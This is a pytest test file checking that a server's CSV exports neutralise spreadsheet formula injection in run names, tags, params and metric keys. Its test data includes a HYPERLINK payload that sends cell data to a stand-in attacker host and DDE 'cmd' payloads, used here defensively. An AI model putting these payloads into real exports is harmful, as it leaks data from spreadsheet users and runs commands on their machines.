"""CSV exports never hand a spreadsheet a formula: user text starting with = + - @ tab or CR
gets a leading ', numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from server.exports import spreadsheet_safe
from tests.server.helpers import ApiClient, create_external

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, f"'{ATTACK}"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("baseline", "baseline"),
        ("a=b", "a=b"),
        ("", ""),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (-0.5, -0.5),
        (-3, -3),
        (None, None),
        (True, True),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_runs_csv_neutralises_names_tags_and_params(client: ApiClient) -> None:
    create_external(
        client,
        name=ATTACK,
        tags=["-1+cmd", "plain"],
        params={"note": "@SUM(A1)", "negative": -3, "text_number": "-0.5", "nested": {"a": 1}},
    )
    response = client.get("/api/v1/runs.csv")
    assert response.status_code == 200, response.text
    (row,) = _rows(response.text)
    assert row["name"] == f"'{ATTACK}"
    assert row["tags"] == "'-1+cmd;plain"
    assert row["params.note"] == "'@SUM(A1)"
    assert row["params.negative"] == "-3"
    assert row["params.text_number"] == "-0.5"
    assert row["params.nested"] == '{"a": 1}'
    assert row["status"] == "running"


def test_metrics_csv_neutralises_keys_and_keeps_negative_values(client: ApiClient) -> None:
    run = create_external(client)
    points = [
        {"key": "=1+1", "step": 1, "value": -1.5, "epoch": 1},
        {"key": "train/loss", "step": 1, "value": -0.25, "epoch": 1},
    ]
    posted = client.post(f"/api/v1/runs/{run['id']}/metrics", json={"points": points})
    assert posted.status_code < 300, posted.text
    response = client.get(f"/api/v1/runs/{run['id']}/metrics.csv")
    assert response.status_code == 200, response.text
    header = response.text.splitlines()[0]
    assert header == "step,epoch,'=1+1,train/loss"
    (row,) = _rows(response.text)
    assert row["'=1+1"] == "-1.5" and row["train/loss"] == "-0.25"
